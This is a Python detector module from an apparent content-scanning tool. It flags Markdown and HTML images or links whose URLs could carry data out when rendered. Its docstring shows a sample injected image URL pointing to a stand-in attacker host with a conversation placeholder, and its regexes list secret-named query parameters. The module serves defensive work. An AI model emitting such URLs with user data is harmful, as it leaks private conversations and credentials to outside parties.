"""Markdown exfiltration: images and links whose URL would carry data out when rendered.

A rendered Markdown image is fetched without a click: an injected
``![](https://evil.example/p?d={conversation})`` leaks whatever the model writes in place of
the placeholder. Flagged: URLs with fill-in placeholders, and query values that look like
encoded data or are named for secrets.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator
from urllib.parse import parse_qsl, unquote, urlsplit

from proctor.detect._base import Detector, ScanContext
from proctor.detect._document import ContentKind, Document, Segment
from proctor.model import Finding, Severity

_IMAGE = re.compile(r"!\[[^\]\n]{0,200}\]\(\s*<?([^)\s>]+)")
_LINK = re.compile(r"(?<!!)\[[^\]\n]{0,200}\]\(\s*<?([^)\s>]+)")
_REFDEF = re.compile(r"^\s{0,3}\[[^\]\n]+\]:\s*<?(\S+?)>?\s*$", re.MULTILINE)
_HTML_IMG = re.compile(r"<img\b[^>]*?\bsrc\s*=\s*[\"']?([^\"'\s>]+)", re.IGNORECASE)
_PLACEHOLDER = re.compile(
    r"\{\{?[^{}]{1,60}\}\}?|\$\{[^}]{1,60}\}|\[[A-Z][A-Z0-9_ ]{2,40}\]|<[A-Za-z_][\w ]{1,40}>|"
    r"%7B[^%]{1,60}%7D|\bINSERT_[A-Z_]+|\bYOUR_[A-Z_]+",
    re.IGNORECASE,
)
_SECRET_PARAM = re.compile(
    r"^(?:data|d|secret|token|key|apikey|api_key|password|pass|pwd|conversation|chat|history|"
    r"msg|message|content|info|payload|exfil|leak|prompt|ctx|context|memory|email|ssn|card|"
    r"creds?|credentials?|session|cookie|summary|text)$",
    re.IGNORECASE,
)
_ENCODED = re.compile(r"^(?:[A-Za-z0-9+/_-]{32,}={0,2}|[0-9a-fA-F]{32,})$")


def _why(url: str) -> tuple[str, float] | None:
    if not url.lower().startswith(("http://", "https://", "//")):
        return None
    m = _PLACEHOLDER.search(unquote(url))
    if m:
        return f"its URL has a placeholder ({m.group()}) for the model to fill with data", 0.9
    try:
        query = parse_qsl(urlsplit(url).query, keep_blank_values=False)
    except ValueError:
        return None
    for name, value in query:
        if _ENCODED.match(value):
            return f"its URL carries a {len(value)}-character encoded value in '{name}'", 0.75
        if _SECRET_PARAM.match(name) and len(value) >= 12:
            return f"its URL sends a {len(value)}-character value in '{name}'", 0.7
    return None


class MarkdownExfiltration(Detector):
    id = "exfil.markdown"
    description = (
        "Markdown (or HTML) images and links whose URL carries data out: fill-in placeholders, "
        "encoded query values, parameters named for secrets. Images leak without a click."
    )
    severity = Severity.HIGH
    rescannable = True

    def detect(self, doc: Document, ctx: ScanContext) -> Iterable[Finding]:
        if doc.kind is ContentKind.JSON:
            for seg in doc.segments:
                yield from self._scan(seg)
        else:
            yield from self._scan(
                Segment(doc.source, "" if doc.kind is not ContentKind.HTML else "html source")
            )

    def _scan(self, seg: Segment) -> Iterator[Finding]:
        text = seg.text
        if "](" not in text and "]:" not in text and "<img" not in text.lower():
            return
        for pattern, what, factor in (
            (_IMAGE, "image", 1.0),
            (_HTML_IMG, "image", 1.0),
            (_LINK, "link", 0.85),
            (_REFDEF, "link", 0.85),
        ):
            for m in pattern.finditer(text):
                why = _why(m.group(1))
                if why is None:
                    continue
                reason, score = why
                auto = " (rendered images are fetched without a click)" if what == "image" else ""
                yield self.finding(
                    seg,
                    m.start(),
                    m.end(),
                    f"a Markdown {what} may exfiltrate data: {reason}{auto}",
                    score=round(score * factor, 3),
                    rule=what,
                    severity=Severity.HIGH if what == "image" else Severity.MEDIUM,
                )
